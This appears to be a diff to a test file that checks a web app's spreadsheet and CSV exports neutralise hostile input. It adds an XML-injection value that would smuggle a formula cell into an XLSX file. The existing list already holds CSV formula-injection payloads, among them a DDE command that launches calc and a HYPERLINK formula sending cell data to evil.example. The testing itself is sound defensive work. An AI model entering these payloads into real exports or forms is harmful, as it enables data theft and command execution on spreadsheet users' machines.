@@ -22,11 +22,17 @@ from app.extensions import db
 from app.models import AnswerPage, Review, utcnow
 from app.staff.run_services import confirm_run, start_run
 from app.staff.services import screen_application
-from selection.report import FORMULA_TRIGGERS
+from selection import FORMULA_TRIGGERS
 from tests.app.conftest import sign_in_as
 from tests.app.helpers import Client, download
 from tests.app.runs.conftest import POOL, Pool, build_pool
 
+# XlsxWriter copies text that starts with <r> and ends with </r> into the file as raw XML (its
+# own rich-string markup): this text would close its cell and add a formula cell, Z9.
+RAW_XML = (
+    '<r><t>a</t></r></is></c><c r="Z9"><f>HYPERLINK("http://evil.example/")</f></c>'
+    '<c r="Z10" t="inlineStr"><is><r><t>b</t></r>'
+)
 HOSTILE = [
     "=cmd|' /C calc'!A0",
     "+1+1",
@@ -36,6 +42,7 @@ HOSTILE = [
     "\r=1",
     "＝1+1",  # full-width equals sign
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    RAW_XML,
 ]
 # Free-text answers the applications export carries, each given a hostile value.
 TEXT_ANSWERS = {
@@ -166,3 +173,4 @@ def test_hostile_text_comes_back_inert_from_every_download(
         if hostile.startswith(FORMULA_TRIGGERS):
             assert "'" + hostile in seen, f"{hostile!r} never reached a download"
     assert "＝1+1" in seen
+    assert RAW_XML in seen and "'" + RAW_XML in seen  # as typed in CSV, marked in XLSX
